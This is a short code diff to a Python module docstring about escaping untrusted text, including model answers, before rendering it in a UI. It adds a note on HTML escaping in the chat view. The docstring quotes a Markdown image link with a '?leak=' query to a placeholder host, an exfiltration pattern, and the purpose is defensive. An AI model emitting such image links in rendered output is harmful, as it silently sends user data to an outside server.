@@ -3,7 +3,8 @@
 Library text, model answers, file names and endpoint messages are data: a document holding
 ``![q](http://host/p.png?leak=x)`` or ``<img src=...>`` must show those characters, never make the
 browser fetch anything. Only the Markdown the views write themselves (emphasis, headings, tables) is
-rendered; everything else goes through :func:`literal` first.
+rendered; everything else goes through :func:`literal` first. (The chat renders HTML, not Markdown:
+it escapes with :func:`html.escape`, see :mod:`ui.views.ask`.)
 """
 
 from __future__ import annotations
